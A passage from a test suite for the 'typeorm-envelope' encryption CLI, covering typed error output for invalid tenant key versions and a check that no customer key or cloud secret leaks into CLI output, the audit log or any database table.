    expect(record?.[6]).toBe('{"days":400}');
  });
});

describe('typeorm-envelope tenants: errors and secrets', () => {
  it('errors print the typed message, no stack; with --json stdout is one JSON error document', async () => {
    const run = await cli(['tenants', 'activate', 'ws-byok', '12']);
    expect(run.status).toBe(1);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain('ConfigError: tenant key versions start at 1000000 (tenant ws-byok');
    noStack(run.stderr);
    const json = await cliJson(['tenants', 'activate', 'ws-byok', '12']);
    expect(json.status).toBe(1);
    expect(json.json).toEqual({
      error: {
        name: 'ConfigError',
        message: expect.stringContaining('tenant key versions start at 1000000'),
        tenant: 'ws-byok',
        keyVersion: 12,
      },
    });
    // A usage error too.
    const usage = await cliJson(['audit', '--format', 'xml']);
    expect(usage.status).toBe(1);
    expect(usage.json).toEqual({
      error: { name: 'UsageError', message: expect.stringContaining('expected table, csv or json') },
    });
    const unknown = await cliJson(['tenants', 'activate', 'ws-byok', String(1_999_999)]);
    expect(unknown.status).toBe(1);
    expect(unknown.json.error.message).toContain('no key of this version');
  });

  it('no customer key appears in any CLI output, the audit log or any table', async () => {
    expect(customerKeys.length).toBeGreaterThanOrEqual(6);
    const tables = await sql<{ table_name: string }>(
      'SELECT table_name FROM information_schema.tables WHERE table_schema = $1',
      [schema.schema],
    );
    const dumps: string[] = [];
    for (const { table_name } of tables) {
      const rows = await sql<{ row: string }>(`SELECT t::text AS row FROM $schema."${table_name}" t`);
      dumps.push(rows.map((r) => r.row).join('\n'));
    }
    const audit = await sql<{ row: string }>(
      'SELECT t::text AS row FROM $schema.typeorm_envelope_audit_log t',
    );
    expect(audit.length).toBeGreaterThan(10);
    const haystacks = [...outputs, ...dumps];
    for (const key of customerKeys) {
      const forms = [
        key.toString('base64'),
        key.toString('base64url'),
        key.toString('hex'),
        key.toString('latin1'),
      ];
      for (const text of haystacks) for (const form of forms) expect(text.includes(form)).toBe(false);
    }
    for (const secret of [app.secretAccessKey, ...sts.issuedSecrets()]) {
      for (const text of outputs) expect(text.includes(secret)).toBe(false);
    }
  });
});
